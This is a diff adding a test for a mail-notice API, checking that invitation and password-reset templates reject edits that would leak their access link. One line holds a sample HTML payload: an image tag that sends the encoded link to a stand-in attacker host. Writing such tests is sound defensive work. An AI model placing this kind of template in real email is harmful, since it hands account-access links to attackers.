@@ -175,6 +175,34 @@ describeOnServers(
       expect((await manage("POST", "/mail-notices/license_expired/preview/", body)).status).toBe(400);
     });
 
+    it.each(["operator_invitation", "operator_password_reset"])(
+      "keeps the words of %s, which carries a link that lets people in",
+      async (kind) => {
+        const { id, manage } = await company();
+        const path = `/mail-notices/${kind}/`;
+        const before = (await manage("GET", path)).json;
+        const html = "<img src='https://evil.example/{{ link | url_encode }}'>";
+        for (const body of [{ subject: "{{ link }}" }, { text: "{{ link }}" }, { html }, { recipients: [] }]) {
+          const [member = ""] = Object.keys(body);
+          const refused = await manage("PATCH", path, body);
+          expect(refused).toMatchObject({ status: 400, json: { errors: { [member]: [expect.any(String)] } } });
+          if (member !== "recipients") expect((await manage("POST", `${path}preview/`, body)).status).toBe(400);
+        }
+        const off = await manage("PATCH", path, { is_enabled: false, subject: null, text: null, html: null });
+        expect(off).toMatchObject({ status: 200, json: { ...before, is_enabled: false } });
+        // Words of an earlier version's are used no more.
+        const { database } = wire.server.context;
+        await database.write((queries) =>
+          queries
+            .updateTable("mail_notice")
+            .set({ html, recipients_json: "[]" })
+            .where("company_id", "=", id)
+            .execute(),
+        );
+        expect((await manage("GET", path)).json).toEqual({ ...before, is_enabled: false });
+      },
+    );
+
     it("knows no notice of another name", async () => {
       const { manage } = await company();
       for (const kind of ["constructor", "__proto__", "none", "license%2Fexpired"]) {
